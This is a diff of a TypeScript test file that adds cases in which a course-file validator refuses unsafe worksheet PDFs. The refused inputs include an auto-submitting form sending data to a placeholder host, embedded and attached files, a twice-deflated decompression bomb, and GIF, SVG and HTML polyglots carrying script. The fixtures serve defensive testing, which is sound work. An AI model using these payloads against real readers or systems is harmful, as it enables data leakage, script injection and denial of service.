@@ -90,10 +90,45 @@ test.each([
       Buffer.from('\nendstream endobj\ntrailer <</Root 1 0 R/Size 10>>\n%%EOF\n'),
     ]),
   ],
+  ['by sending a form', pdf('/OpenAction <</S/SubmitForm/F(https://ond.example)>>')],
+  ['with a file in it', pdf('/Names<</EmbeddedFiles 9 0 R>>')],
+  [
+    'with a file pinned to a page',
+    pdf().replace('200 200]', '200 200]/Annots[<</Type/Annot/Subtype/FileAttachment>>]'),
+  ],
+  ['with media', pdf().replace('200 200]', '200 200]/Annots[<</Subtype/RichMedia>>]')],
 ])('a PDF that runs something is refused: %s', async (_, content) => {
   expect(await faultsWith({ [worksheet]: content })).toEqual([
-    `${courseFile}:14: ${worksheet} innehåller JavaScript eller startar program.`,
+    `${courseFile}:14: ${worksheet} innehåller JavaScript eller filer, startar program eller skickar uppgifter.`,
   ]);
+});
+
+const stream = (body: Buffer) =>
+  Buffer.concat([
+    Buffer.from(`%PDF-1.4\n9 0 obj <</Filter/FlateDecode/Length ${body.length}>> stream\n`),
+    body,
+    Buffer.from(`\nendstream endobj\n${pdf().replace('%PDF-1.4\n', '')}`),
+  ]);
+
+test('a PDF that unpacks to gigabytes is refused before it is opened, also when it is packed twice', async () => {
+  const bomb = deflateSync(Buffer.alloc(300 * 1024 * 1024));
+  for (const content of [stream(bomb), stream(deflateSync(bomb))]) {
+    expect(await faultsWith({ [worksheet]: content })).toEqual([
+      `${courseFile}:14: ${worksheet} packar upp till orimligt mycket.`,
+    ]);
+  }
+  const honest = stream(deflateSync(Buffer.alloc(20 * 1024 * 1024)));
+  expect(await faultsWith({ [worksheet]: honest })).toEqual([]);
+});
+
+test.each([
+  ['a page of HTML that begins like a picture', Buffer.from('GIF89a<script>alert(1)</script>')],
+  ['a drawing with script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
+  ['an archive', Buffer.from('PK\u0003\u0004 %PDF-1.4')],
+  ['HTML with a PDF after it', Buffer.from(`<html><script>alert(1)</script>${pdf()}`)],
+])('what is no PDF is refused under the name of one: %s', async (_, content) => {
+  const [fault] = await faultsWith({ [worksheet]: content });
+  expect(fault).toContain(`${worksheet} är inte vad namnet säger`);
 });
 
 test('a PDF may have the word JavaScript in its text', async () => {
